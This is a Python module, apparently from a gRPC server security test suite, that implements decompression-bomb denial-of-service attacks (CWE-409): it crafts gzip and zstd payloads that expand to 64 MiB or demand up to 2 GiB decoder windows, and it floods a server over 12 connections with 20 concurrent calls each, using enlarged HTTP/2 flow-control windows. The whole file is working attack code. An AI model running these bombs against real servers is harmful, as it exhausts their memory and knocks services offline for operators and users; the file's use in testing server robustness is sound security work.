"""Messages that are small on the wire and huge once decompressed (CWE-409).

Four kinds: gzip and zstd of 64 MiB of zeros, zstd that needs a window of up to 2 GiB, which
decoders reserve before they have seen the content, and gzip of a message that is just as large
as allowed, so that its call is handled. The responses are read.
"""

from support import frames, grpc, zstd
from support.connection import Attack, Connection

CONNECTIONS, CALLS = 12, 20
# In MiB: as much as the container has.
LARGE = 64


async def attack(attack: Attack) -> None:
    windows = {frames.INITIAL_WINDOW_SIZE: 0x7FFF_FFFF}
    await attack.keep(CONNECTIONS, send_bombs, windows)


def bombs() -> list[tuple[str, bytes]]:
    size = LARGE * grpc.MIB
    start = grpc.sample_request(bytes(size))[:-size]
    return [
        ("gzip", grpc.gzip(start, LARGE)),
        *(("zstd", zstd.frame(start, size, window_log)) for window_log in (17, 23, 27, 31)),
        ("gzip", grpc.gzip(grpc.largest_request())),
    ]


BOMBS = bombs()


async def send_bombs(connection: Connection, number: int) -> None:
    encoding, compressed = BOMBS[number % len(BOMBS)]
    message = grpc.message(compressed, compressed=True)
    connection.write(frames.window_update(0, 0x7FFF_0000))
    unsent: dict[int, bytes] = {}
    while not connection.is_closed:
        while len(connection.streams) < CALLS and not connection.is_full:
            stream = connection.request(grpc.CALL, [("grpc-encoding", encoding)])
            if connection.is_closed:
                return
            unsent[stream] = message
        unsent = {stream: left for stream, left in unsent.items()
                  if left and stream in connection.streams}
        progress = 0
        for stream, left in unsent.items():
            sent = connection.send_data(stream, left, end=True)
            unsent[stream] = left[sent:]
            progress += sent
        await connection.turn(progress)
